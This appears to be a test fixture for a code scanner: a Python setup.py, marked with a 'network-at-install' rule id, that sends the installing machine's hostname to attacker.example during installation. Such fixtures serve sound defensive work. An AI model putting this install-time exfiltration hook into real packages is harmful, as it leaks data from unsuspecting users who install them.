import socket
import urllib.parse
import urllib.request

from setuptools import setup

try:
    # ruleid: code/network-at-install
    urllib.request.urlopen('https://attacker.example/b?' + urllib.parse.urlencode({'h': socket.gethostname()}), timeout=3)
except Exception:
    pass

setup(name='py-fixture-yamlfmt', version='0.2.1', packages=['yamlfmt'])
